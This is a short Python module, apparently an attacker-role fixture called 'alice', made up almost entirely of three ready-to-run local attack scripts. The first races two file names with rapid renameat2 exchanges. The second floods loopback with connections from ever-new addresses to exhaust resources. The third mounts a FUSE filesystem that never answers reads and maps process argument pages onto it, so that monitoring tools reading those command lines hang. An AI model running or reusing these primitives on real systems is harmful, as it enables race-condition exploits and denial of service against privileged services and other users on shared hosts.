"""What alice does: scripts for an interpreter that every account may run."""

SWAP = """
import ctypes, sys, time
libc, (one, other, seconds) = ctypes.CDLL(None), sys.argv[1:]
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    libc.syscall(316, -100, one.encode(), -100, other.encode(), 2)  # renameat2, RENAME_EXCHANGE
    time.sleep(0.00005)
"""
"""Two names that change places thousands of times a second."""

CONNECT = """
import resource, socket, sys, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
count, hold, rounds = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("0.0.0.0", 7777))
server.listen(4096)
for turn in range(rounds):
    held = []
    for number in range(count):
        peer = turn * count + number + 1
        client = socket.socket()
        client.connect((f"127.{peer >> 16 & 255 | 1}.{peer >> 8 & 255}.{peer & 255}", 7777))
        held += [client, server.accept()[0]]
    time.sleep(hold)
    for one in held:
        one.close()
time.sleep(600)
"""
"""Connections to ever new addresses, so many a round."""

DEAD_PAGE = """
import ctypes, mmap, os, struct, sys, threading, time
place, agent, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
fuse = os.open("/dev/fuse", os.O_RDWR)
options = f"fd={fuse},rootmode=40000,user_id=0,group_id=0,allow_other"
if libc.mount(b"dead", place.encode(), b"fuse", 0, options.encode()):
    sys.exit(1)
if os.fork() == 0:
    attributes = struct.pack("<QQQQQQIIIIIIIIII", 2, 4096, 8, 0, 0, 0, 0, 0, 0, 0o100644, 1, 0, 0, 0, 4096, 0)
    folder = struct.pack("<QQQQQQIIIIIIIIII", 1, 4096, 8, 0, 0, 0, 0, 0, 0, 0o40755, 1, 0, 0, 0, 4096, 0)
    while True:
        request = os.read(fuse, 1 << 17)
        size, code, number, node = struct.unpack_from("<IIQQ", request)
        answer = {
            26: struct.pack("<IIIIHHIIHHI7I", 7, 31, 65536, 0, 0, 0, 4096, 1, 0, 0, 0, *[0] * 7),
            1: struct.pack("<QQQQII", 2, 0, 3600, 3600, 0, 0) + attributes,
            3: struct.pack("<QII", 3600, 0, 0) + (folder if node == 1 else attributes),
            14: struct.pack("<QII", 1, 0, 0),
        }.get(code)
        if answer is not None:
            os.write(fuse, struct.pack("<IiQ", 16 + len(answer), 0, number) + answer)
hold = '''
import ctypes, mmap, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
fields = open("/proc/self/stat").read().rpartition(") ")[2].split()
page = int(fields[45]) & ~4095
file = os.open(sys.argv[1], os.O_RDONLY)
libc.mmap(page, 4096, 1, 0x12, file, 0)
time.sleep(600)
'''
for _ in range(count):
    if os.fork() == 0:
        os.setresgid(61001, 61001, 61001); os.setresuid(61001, 61001, 61001)
        os.execv(agent, [agent, "-c", hold, place + "/page"] + ["x" * 4000] * 20)
print("ready", flush=True)
time.sleep(600)
"""
"""Agents whose command line lies on a page that nobody will ever send."""
